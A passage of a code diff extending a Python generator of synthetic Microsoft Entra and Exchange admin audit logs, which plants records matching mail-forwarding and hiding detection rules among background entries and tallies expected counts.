+                exp[rule] = exp.get(rule, 0) + 1
+        return lines, exp
+
+    def run(self, w, size):
+        rng = self.rng
+        w.add("#TYPE Selected.Microsoft.Exchange.Management.SystemConfigurationTasks.AdminAuditLogEvent\r")
+        w.add(self.HEADER + "\r")
+        units = max(1, size // UNIT_BYTES)
+        next_unit = 0
+        ts = BASE_EPOCH + 60 * 86400  # newest first, as Search-AdminAuditLog returns them
+        expected = {RULE_MBXFWD: 0, RULE_RULEFWD: 0, RULE_HIDING: 0}
+        while w.size() < size:
+            if next_unit < units and w.size() >= next_unit * (size // units):
+                lines, exp = self.plant(ts, next_unit)
+                for line in lines:
+                    w.add(line)
+                for k, v in exp.items():
+                    expected[k] += v
+                next_unit += 1
+                ts -= 120
+            for _ in range(64):
+                w.add(self.background(ts))
+                ts -= rng.randint(0, 2)
+        return expected
+
+
+def part1_kinds():
+    """The kinds of this section: name -> (factory(seed), writer class)."""
+    return {
+        "entra_signin": (lambda s: EntraSignin(s + 2, graph=False), Writer),
+        "entra_signin_graph": (lambda s: EntraSignin(s + 2, graph=True), ArrayWriter),
+        "entra_audit": (lambda s: EntraAudit(s + 3), Writer),
+        "exchange_admin_audit": (lambda s: ExchangeAdminAudit(s + 4), Writer),
+    }
 
 
 def main():
     ap = argparse.ArgumentParser(description=__doc__)
-    ap.add_argument("--kind", choices=["defender", "office", "adminxml", "iis", "msgtrack"],
-                    required=True)
+    kinds = part1_kinds()
+    ap.add_argument("--kind", choices=["defender", "office", "adminxml", "iis", "msgtrack"] +
+                    sorted(kinds), required=True)
     ap.add_argument("--size", default="200M", help="target size, e.g. 50M, 1G")
     ap.add_argument("--seed", type=int, default=1114)
     ap.add_argument("--out", required=True)
@@ -777,8 +1354,11 @@ def main():
     gens = {"defender": lambda: Defender(args.seed), "office": lambda: Office(args.seed + 1),
             "adminxml": lambda: AdminXml(args.seed + 2),
             "iis": lambda: Iis(args.seed + 2), "msgtrack": lambda: MsgTrack(args.seed + 3)}
-    gen = gens[args.kind]()
-    w = Writer(args.out, size)
+    if args.kind in kinds:
+        factory, writer = kinds[args.kind]
+        gen, w = factory(args.seed), writer(args.out, size)
+    else:
+        gen, w = gens[args.kind](), Writer(args.out, size)
     expected = gen.run(w, size)
     w.close()
     exp = {"kind": args.kind, "bytes": w.total, "seed": args.seed,
